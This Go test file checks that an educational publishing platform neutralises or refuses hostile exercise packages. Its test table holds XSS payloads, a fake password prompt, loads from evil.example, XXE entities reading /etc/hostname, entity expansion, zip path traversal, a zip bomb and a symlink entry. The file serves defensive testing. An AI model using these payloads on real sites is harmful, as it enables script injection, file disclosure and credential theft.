package web_test

import (
	"archive/zip"
	"bytes"
	"io/fs"
	"net/http"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"pupitre/exos"
	"pupitre/exos/store/storetest"
	"pupitre/internal/look/looktest"
)

// What a publisher writes is drawn in our words: of its script nothing is left in the page, and a picture that carries some is sent so
// that it can run nothing, even opened by itself.
func TestAPublishersContentCanRunNothing(t *testing.T) {
	t.Parallel()
	const picture = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>`
	w := newWorld(t)
	const text = `<div><p onclick="alert(3)" style="position:fixed">Regarde la carte.</p><p><a href="javascript:alert(4)">ici</a></p>` +
		`<p><img src="carte.svg" alt="Une carte" onerror="alert(5)"/></p></div>`
	w.Publish(exos.Package{Data: storetest.Repacked(t, storetest.Workbook(t), func(name string, data []byte) []byte {
		if strings.Contains(name, "1-1-") {
			data = bytes.Replace(data, []byte("<qti-item-body>"), []byte("<qti-item-body>"+text), 1)
		}
		return data
	}, map[string]string{"items/carte.svg": picture})})
	page := w.pupil().exercise("1")
	page.says("Regarde la carte.", "ici")
	for _, sign := range []string{"alert(", "javascript:", "onclick", "onerror", "position:fixed", "<svg xmlns=\"http://www.w3.org/2000/svg\" onload"} {
		if strings.Contains(page.text, sign) {
			t.Errorf("the page has %q", sign)
		}
	}
	address := regexp.MustCompile(`http://contenu\.example/[^"/]+/fichiers/[0-9a-f]{64}`).FindString(page.text)
	if address == "" {
		t.Fatal("the page has no picture")
	}
	answer := w.pupil().do(get(address))
	if answer.StatusCode != http.StatusOK || answer.Header.Get("Content-Type") != "image/svg+xml" {
		t.Fatalf("%s, %s", answer.Status, answer.Header.Get("Content-Type"))
	}
	if policy := answer.Header.Get("Content-Security-Policy"); !strings.Contains(policy, "default-src 'none'") || !strings.HasSuffix(policy, "sandbox") {
		t.Errorf("its policy is %q", policy)
	}
	if answer.Header.Get("X-Content-Type-Options") != "nosniff" {
		t.Error("its type may be guessed")
	}
}

// hostile are packages that somebody means ill with: what is changed in the workbook, and either the code of the refusal, or nothing,
// where the package is taken and what it carries must be inert.
var hostile = []struct {
	name    string
	body    string            // put at the beginning of the first exercise's body
	item    [2]string         // replaced in the first exercise
	files   map[string]string // added
	refused string
}{
	{name: "event handlers and script links", body: `<div><p onclick="alert(1)" onmouseover="alert(2)">Regarde.</p><p><a href="javascript:alert(3)">ici</a> ` +
		`<a href="JaVaScRiPt&#58;alert(4)">là</a> <a href=" java&#10;script:alert(5)">encore</a> <a href="data:text/html,&lt;script&gt;alert(6)&lt;/script&gt;">data</a> ` +
		`<a href="vbscript:alert(7)">vb</a></p></div>`},
	{name: "a script in a picture", body: `<p><img src="carte.svg" alt="Une carte"/></p>`,
		files: map[string]string{"items/carte.svg": `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)"><text>x</text></a><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"/></foreignObject><image href="https://evil.example/p.png"/></svg>`}},
	{name: "a drawing in the text", body: `<div><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script><animate attributeName="href" to="javascript:alert(3)"/><image href="https://evil.example/p.png"/><use href="https://evil.example/s.svg#a"/><style>@import url(https://evil.example/x.css);</style></svg></div>`},
	{name: "styles that cover the page", body: `<div style="position:fixed;inset:0;z-index:9999;background:url(https://evil.example/b.png)" class="masthead skip toast"><p>Ta session a expiré. Donne ton mot de passe.</p></div><style>body{display:none}</style>`},
	{name: "loads from elsewhere", body: `<div><img src="https://evil.example/p.png" alt="p"/><img src="//evil.example/q.png" alt="q"/><audio src="https://evil.example/a.mp3" controls="controls"/>` +
		`<video poster="https://evil.example/v.png" src="https://evil.example/v.mp4"/><object data="https://evil.example/o.html" type="text/html"/><iframe src="https://evil.example/"/><embed src="https://evil.example/e"/>` +
		`<link rel="stylesheet" href="https://evil.example/l.css"/><img srcset="https://evil.example/r.png 2x" src="https://evil.example/s.png" alt="r"/></div>`},
	{name: "style sheets from elsewhere", item: [2]string{"<qti-item-body>", `<qti-stylesheet href="https://evil.example/x.css" type="text/css"/><qti-stylesheet href="mal.css" type="text/css"/><qti-item-body>`},
		files: map[string]string{"items/mal.css": `@import url(https://evil.example/y.css); body{position:fixed} *{background:url(https://evil.example/z.png)}`}},
	{name: "mathematics that are not", body: `<p><math xmlns="http://www.w3.org/1998/Math/MathML"><maction actiontype="statusline" xlink:href="javascript:alert(1)" xmlns:xlink="http://www.w3.org/1999/xlink"><mi>x</mi></maction>` +
		`<mrow href="javascript:alert(2)" onclick="alert(3)"><mi>y</mi></mrow><mglyph src="https://evil.example/g.png" alt="g"/><mtext><mglyph/><style>&lt;img src=x onerror=alert(4)&gt;</style></mtext>` +
		`<semantics><mi>z</mi><annotation-xml encoding="text/html"><script xmlns="http://www.w3.org/1999/xhtml">alert(5)</script><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/m"/></annotation-xml></semantics></math></p>`},
	{name: "scripts and forms in the text", body: `<div><script>alert(1)</script><script src="https://evil.example/x.js"/><form action="https://evil.example/" method="post"><p><input type="password" name="p"/><button>Envoyer</button></p></form><base href="https://evil.example/"/><meta http-equiv="refresh" content="0;url=https://evil.example/"/><noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=alert(2)&gt;">x</p></noscript></div>`},
	{name: "texts that look like elements", body: `<p>&lt;script&gt;alert(1)&lt;/script&gt; <img src="carte.svg" alt="&quot;&gt;&lt;script&gt;alert(2)&lt;/script&gt;"/></p>`,
		item:  [2]string{`title="`, `title="&lt;img src=x onerror=alert(3)&gt; `},
		files: map[string]string{"items/carte.svg": `<svg xmlns="http://www.w3.org/2000/svg"/>`}},
	{name: "a program of the publisher's", body: `<qti-portable-custom-interaction response-identifier="PCI" module="mal" custom-interaction-type-identifier="urn:mal"><qti-interaction-modules><qti-interaction-module id="mal" primary-path="https://evil.example/m.js"/></qti-interaction-modules><qti-interaction-markup><div onclick="alert(1)">x</div></qti-interaction-markup></qti-portable-custom-interaction>`,
		item: [2]string{"<qti-outcome-declaration", `<qti-response-declaration identifier="PCI" cardinality="single" base-type="string"/><qti-outcome-declaration`}},
	{name: "names of files that look like elements", files: map[string]string{"items/<img src=x onerror=alert(1)>.svg": "<svg/>"}},
	{name: "a picture that is a page", body: `<p><img src="page.png" alt="x"/><img src="page.html" alt="y"/></p>`,
		files: map[string]string{"items/page.png": "<html><script>alert(1)</script></html>", "items/page.html": "<html><script>alert(2)</script></html>"}},
	{name: "entities that grow", item: [2]string{"<qti-assessment-item", `<!DOCTYPE a [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><qti-assessment-item`}, refused: "xml.doctype"},
	{name: "entities that read files", item: [2]string{"<qti-assessment-item", `<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/hostname">]><qti-assessment-item`}, refused: "xml.doctype"},
	{name: "a style instruction", item: [2]string{"<qti-assessment-item", `<?xml-stylesheet href="https://evil.example/x.xsl" type="text/xsl"?><qti-assessment-item`}},
	{name: "a very deep text", body: strings.Repeat("<div>", 5000) + "x" + strings.Repeat("</div>", 5000), refused: "xml.too-deep"},
	{name: "a name that leaves the folder", files: map[string]string{"../../etc/cron.d/x": "x"}, refused: "package.entry-name"},
	{name: "an absolute name", files: map[string]string{"/etc/x": "x"}, refused: "package.entry-name"},
	{name: "a drive's name", files: map[string]string{`C:\x`: "x"}, refused: "package.entry-name"},
	{name: "a file that grows a thousand times", files: map[string]string{"items/grand.txt": strings.Repeat("0", 30<<20)}, refused: "package.bomb"},
	{name: "two names that are one", files: map[string]string{"items/A.svg": "x", "items/a.svg": "y"}, refused: "package.entry-twice"},
}

// dead are elements that no workbook has in a page of ours; ours are not inside main.
var dead = []string{"script", "iframe", "object", "embed", "base", "meta", "link", "style", "noscript", "annotation-xml", "maction", "mglyph", "foreignobject", "animate", "use", "image"}

// ill says what of an element could run, cover the page, load from elsewhere or ask for a password; "" where nothing could.
func ill(n *html.Node) string {
	if n.Type != html.ElementNode {
		return ""
	}
	name := strings.ToLower(n.Data)
	if _, ours := attr(n, "data-sentences"); ours && looktest.Attr(n, "type") == "application/json" {
		return "" // the words of our own script: data, which runs nothing
	}
	if slices.Contains(dead, name) && looktest.Attr(n, "href") == "" || slices.Contains(dead, name) && strings.Contains(looktest.Attr(n, "href"), "evil.example") {
		return "<" + name + ">"
	}
	for _, a := range n.Attr {
		value := strings.ToLower(strings.Map(func(c rune) rune {
			if c <= ' ' {
				return -1
			}
			return c
		}, a.Val))
		address := slices.Contains([]string{"href", "src", "srcset", "action", "formaction", "data", "poster", "background"}, a.Key)
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "style",
			address && (strings.HasPrefix(value, "javascript:") || strings.HasPrefix(value, "vbscript:") || strings.HasPrefix(value, "data:text")),
			address && strings.Contains(value, "evil.example") && (name != "a" || looktest.Attr(n, "rel") != "noopener noreferrer"),
			name == "input" && a.Key == "type" && value == "password",
			a.Key == "class" && (strings.Contains(value, "masthead") || strings.Contains(value, "toast")):
			return "<" + name + " " + a.Key + "=" + a.Val + ">"
		}
	}
	return ""
}

// Each goes in by the real door: it is refused with a reason that says where, or drawn so that nothing of it runs, covers the page or
// loads from elsewhere. The frame itself has no style attribute and no inline script, so a sign is the package's.
func TestAHostilePackageIsInertOrRefused(t *testing.T) {
	t.Parallel()
	for _, bad := range []string{
		`<p onclick="x">`, `<div class="a" style="position:fixed">`, `<a href=" java&#10;script:x">`, `<img alt="p" src="https://evil.example/p.png">`, `<p><script>`,
		`<iframe src="https://evil.example/">`, `<a href="https://evil.example/">`, `<input type="password">`, `<math><maction>`, `<math><annotation-xml encoding="x">`,
		`<p class="toast">`, `<svg><foreignObject>`, `<form action="//evil.example/">`,
	} {
		found := false
		for n := range looktest.Parse(t, bad).Find("body")[0].Descendants() {
			found = found || ill(n) != ""
		}
		if !found {
			t.Errorf("nothing is found in %s", bad)
		}
	}
	w := newWorld(t)
	s := w.publisher()
	for _, c := range hostile {
		t.Run(c.name, func(t *testing.T) {
			path := s.deposited("mal.zip", spoilt(t, c.body, c.item, c.files))
			page := s.see(path, http.StatusOK)
			clean(t, path, page)
			if c.refused != "" {
				page.says("Ce paquet ne peut pas être publié", c.refused)
				return
			}
			page.says("Bon à publier")
			seen := s.see(path+"/exercices/1", http.StatusOK)
			clean(t, path+"/exercices/1", seen)
			for _, at := range regexp.MustCompile(`http://contenu\.example/[^"/]+/depots/[^"]*/fichiers/[0-9a-f]{64}`).FindAllString(seen.text, -1) {
				answer := s.ask(get(at))
				policy, kind := answer.Header.Get("Content-Security-Policy"), answer.Header.Get("Content-Type")
				if answer.StatusCode != http.StatusOK || !strings.Contains(policy, "default-src 'none'") || !strings.HasSuffix(policy, "sandbox") ||
					answer.Header.Get("X-Content-Type-Options") != "nosniff" || strings.Contains(kind, "html") {
					t.Errorf("%s: %s, %s, policy %q", at, answer.Status, kind, policy)
				}
			}
			if answer := s.post(path+"/supprimer", nil); answer.StatusCode != http.StatusSeeOther {
				t.Errorf("removing: %s", answer.Status)
			}
		})
	}
}

func clean(t *testing.T, path string, page *sheet) {
	t.Helper()
	for n := range page.Find("main")[0].Descendants() {
		if found := ill(n); found != "" {
			t.Errorf("%s has %s", path, found)
		}
	}
}

// spoilt is the workbook with something put into its first exercise.
func spoilt(t testing.TB, body string, item [2]string, files map[string]string) []byte {
	t.Helper()
	done := false
	out := storetest.Repacked(t, storetest.Workbook(t), func(name string, data []byte) []byte {
		if !strings.Contains(name, "1-1-") {
			return data
		}
		done = true
		data = bytes.Replace(data, []byte("<qti-item-body>"), []byte("<qti-item-body>"+body), 1)
		return bytes.Replace(data, []byte(item[0]), []byte(item[1]), 1)
	}, files)
	if !done {
		t.Fatal("the workbook has no first exercise")
	}
	return out
}

// A million files are refused before one of them is opened.
func TestAPackageOfAMillionFilesIsRefused(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for i := range 1_000_000 {
		if _, err := z.CreateHeader(&zip.FileHeader{Name: strconv.Itoa(i)}); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	s := newWorld(t).publisher()
	s.see(s.deposited("million.zip", b.Bytes()), http.StatusOK).says("Ce paquet ne peut pas être publié", "package.too-many", "20000")
}

// A link in a package leads nowhere.
func TestALinkInAPackageIsRefused(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	h := &zip.FileHeader{Name: "imsmanifest.xml"}
	h.SetMode(fs.ModeSymlink | 0o777)
	to, err := z.CreateHeader(h)
	if err == nil {
		_, err = to.Write([]byte("/etc/hostname"))
	}
	if err == nil {
		err = z.Close()
	}
	if err != nil {
		t.Fatal(err)
	}
	s := newWorld(t).publisher()
	s.see(s.deposited("lien.zip", b.Bytes()), http.StatusOK).says("package.entry-link")
}
